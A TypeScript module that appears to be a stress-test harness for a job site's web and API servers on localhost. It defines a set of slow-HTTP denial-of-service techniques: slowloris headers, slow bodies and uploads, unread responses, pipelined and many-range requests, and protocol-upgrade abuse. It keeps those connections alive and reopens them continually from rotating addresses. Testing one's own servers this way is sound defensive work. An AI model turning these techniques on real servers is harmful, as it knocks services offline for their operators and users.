import { connect, type Socket } from "node:net";

/** One way to be slow or greedy on a plain socket. */
export interface SlowKind {
  head: string;
  reads?: boolean;
  /** Text that is sent every second. One byte by default. */
  more?: string;
}

export interface Attack {
  port: number;
  kinds: SlowKind[];
  count: number;
  /** Local addresses that the connections use in turn. */
  addresses: string[];
}

/** Opens `count` connections, and opens each anew within a second of its end. */
export function beginAttack({ port, kinds, count, addresses }: Attack): void {
  const open = new Map<number, Socket>();
  const openOne = (index: number) => {
    const { head, reads = true } = kinds[index % kinds.length] as SlowKind;
    const socket = connect({ port, host: "127.0.0.1", localAddress: addresses[index % addresses.length] });
    open.set(index, socket);
    socket.on("error", () => undefined).once("close", () => open.delete(index));
    socket.write(head);
    if (reads) socket.resume();
    else socket.pause();
  };
  const move = () => {
    for (let index = 0; index < count; index++) {
      const socket = open.get(index);
      if (!socket) openOne(index);
      else if (socket.writable) socket.write(kinds[index % kinds.length]?.more ?? "a");
    }
  };
  move();
  setInterval(move, 1_000);
}

const post = (host: string, path: string, type: string, length: number) =>
  `POST ${path} HTTP/1.1\r\n${host}Content-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`;
const multipart = "multipart/form-data; boundary=b";

/** Returns ten kinds of attack on the web server. `asset` is the path of a large file of the build. */
export function kindsOfWeb(origin: string, asset: string): Record<string, SlowKind> {
  const host = `Host: ${new URL(origin).host}\r\nOrigin: ${origin}\r\n`;
  const get = (path: string, more = "") => `GET ${path} HTTP/1.1\r\n${host}${more}\r\n`;
  const manyRanges = `Range: bytes=${Array.from({ length: 400 }, (_, at) => `${at * 3}-${at * 3}`).join(",")}\r\n`;
  return {
    "slow headers": { head: `GET /auth/login HTTP/1.1\r\n${host}X-Slow: ` },
    "slow forms": { head: post(host, "/auth/login", "application/x-www-form-urlencoded", 2_000) },
    "slow files of visitors": { head: post(host, "/curriculo", multipart, 1_000_000) },
    "slow videos": { head: post(host, "/dashboard/user/addVideoResume/", multipart, 1_000_000) },
    "pages that nobody reads": { head: get("/vagas", "Accept-Encoding: identity\r\n"), reads: false, more: "" },
    "pipelined requests": { head: get(asset).repeat(60) + get("/auth/login").repeat(48), reads: false, more: "" },
    "many ranges": { head: get(asset, manyRanges).repeat(4), more: get(asset, manyRanges).repeat(4) },
    "idle connections": { head: get("/favicon.svg"), more: "" },
    "forms that ask for another protocol": {
      head: post(
        `${host}Connection: Upgrade\r\nUpgrade: h2c\r\n`,
        "/auth/login",
        "application/x-www-form-urlencoded",
        2_000,
      ),
    },
    "handshakes without a ticket": {
      head: get(
        "/socket.io/?EIO=4&transport=websocket",
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eHh4eHh4eHh4eHh4eHh4eA==\r\n",
      ),
      more: "",
    },
  };
}

/** Returns the kinds of attack on the API server. `path` answers calls with and without a key. */
export function kindsOfApi(path: string): Record<string, SlowKind> {
  const host = "Host: 127.0.0.1\r\n";
  const get = `GET ${path} HTTP/1.1\r\n${host}\r\n`;
  return {
    "slow headers": { head: `GET ${path} HTTP/1.1\r\n${host}X-Slow: ` },
    "slow bodies": { head: post(host, path, "application/json", 2_000) },
    "pipelined requests": { head: get.repeat(20), reads: false, more: "" },
    "answers that nobody reads": { head: get, reads: false, more: "" },
    "idle connections": { head: get, more: "" },
    "bodies that ask for another protocol": {
      head: post(`${host}Connection: Upgrade\r\nUpgrade: h2c\r\n`, path, "application/json", 2_000),
    },
  };
}
